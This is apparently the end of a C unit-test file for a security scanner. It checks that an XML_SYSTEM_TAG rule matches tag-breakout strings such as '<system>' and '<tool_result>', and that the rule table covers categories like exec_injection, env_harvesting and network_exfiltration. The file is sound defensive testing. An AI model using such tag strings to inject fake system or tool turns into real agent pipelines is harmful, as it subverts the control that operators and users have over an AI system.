	FINDS(XML_SYSTEM_TAG, "<system></system><system/>", "<system>\x1f</system>\x1f<system/>"),
	FINDS(XML_SYSTEM_TAG, "<tool_result x='1'>< / function_call >", "<tool_result x='1'>\x1f< / function_call >"),
	FINDS(XML_SYSTEM_TAG, "<System role=\"x\" />", "<System role=\"x\" />"),
	FINDS(XML_SYSTEM_TAG, "<system a=\"<b>\" c='<'>", "<system a=\"<b>\" c='<'>"),
	FINDS(XML_SYSTEM_TAG, "<\nsystem\nattr>", "<\nsystem\nattr>"),
	NEVER(XML_SYSTEM_TAG, "<ecosystem><systems><function_calls><tool-result><sys tem>&lt;system&gt;<system-x>"),
	NEVER(XML_SYSTEM_TAG, "<system with no end < "),
};
// clang-format on

static bool case_holds(const struct acceptance *item)
{
	struct matches matches = { NULL, 0, 0 };
	struct buf found = BUF_INIT;
	bool good = true;
	size_t i;

	assert_non_null(rule_find(item->rule));
	assert_int_equal(scanner_scan(scanner, item->cls, item->text, strlen(item->text), NULL, &matches), 0);
	for (i = 0; i < matches.count; i++) {
		const struct match *match = &matches.items[i];
		const struct rule *rule = scanner_rule(scanner, match->rule);

		if (strcmp(rule->id, item->rule) != 0)
			continue;
		if (found.len > 0)
			assert_int_equal(buf_append_byte(&found, 0x1f), 0);
		assert_int_equal(buf_append(&found, item->text + match->start, match->end - match->start), 0);
		if (match->severity != (item->severity == SEVERITY_OFF ? rule->severity : item->severity))
			good = false;
	}
	if (strcmp(found.data == NULL ? "" : found.data, item->matched == NULL ? "" : item->matched) != 0)
		good = false;
	if (!good)
		print_error("%s: %s\n  wanted %s\n  found  %s\n", item->rule, item->text,
			    item->matched == NULL ? "nothing" : item->matched,
			    found.data == NULL ? "nothing" : found.data);
	buf_release(&found);
	matches_release(&matches);
	return good;
}

static void rules_accept_and_refuse_as_promised(void **state)
{
	size_t i, wrong = 0;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		wrong += !case_holds(&cases[i]);
	assert_int_equal(wrong, 0);
}

static void rules_every_one_has_both_kinds_of_cases(void **state)
{
	size_t rule, i;

	(void)state;
	for (rule = 0; rule < rule_count; rule++) {
		bool accepts = false, refuses = false;

		for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
			if (strcmp(cases[i].rule, rules[rule].id) != 0)
				continue;
			accepts |= cases[i].matched != NULL;
			refuses |= cases[i].matched == NULL;
		}
		assert_true(accepts && refuses);
	}
}

// Ids, categories and severities are fixed by the product.
static void rules_table_is_the_products(void **state)
{
	static const struct {
		const char *category;
		size_t count, critical;
	} want[] = {
		{ "exec_injection", 4, 4 },       { "env_harvesting", 3, 0 },      { "crypto_mining", 3, 2 },
		{ "network_exfiltration", 3, 1 }, { "obfuscated_encoding", 3, 1 }, { "xml_breakout", 2, 2 },
	};
	size_t i, j;

	(void)state;
	assert_int_equal(rule_count, 18);
	for (i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		size_t count = 0, critical = 0;

		for (j = 0; j < rule_count; j++) {
			if (strcmp(rules[j].category, want[i].category) != 0)
				continue;
			count++;
			critical += rules[j].severity == SEVERITY_CRITICAL;
		}
		assert_int_equal(count, want[i].count);
		assert_int_equal(critical, want[i].critical);
	}
	assert_ptr_equal(rule_find("XML_SYSTEM_TAG"), &rules[17]);
	assert_null(rule_find("NO_SUCH_RULE"));
}

// All rules of the table are looked for in one pass, and none so often that it would slow it down.
static void rules_all_have_anchors(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < rule_count; i++) {
		struct anchor anchors[ANCHORS_MAX];
		size_t count = anchors_read(rules[i].anchors != NULL ? rules[i].anchors : rules[i].pattern,
					    rules[i].case_sensitive, anchors);

		assert_false(scanner_rule_is_plain(scanner, i));
		if (count == 0 || anchors_frequency(anchors, count) > 8192)
			fail_msg("%s: %zu anchors, %.0f places in a MiB", rules[i].id, count,
				 anchors_frequency(anchors, count));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rules_accept_and_refuse_as_promised),
		cmocka_unit_test(rules_every_one_has_both_kinds_of_cases),
		cmocka_unit_test(rules_all_have_anchors),
		cmocka_unit_test(rules_table_is_the_products),
	};

	return cmocka_run_group_tests(tests, scanner_set_up, scanner_tear_down);
}
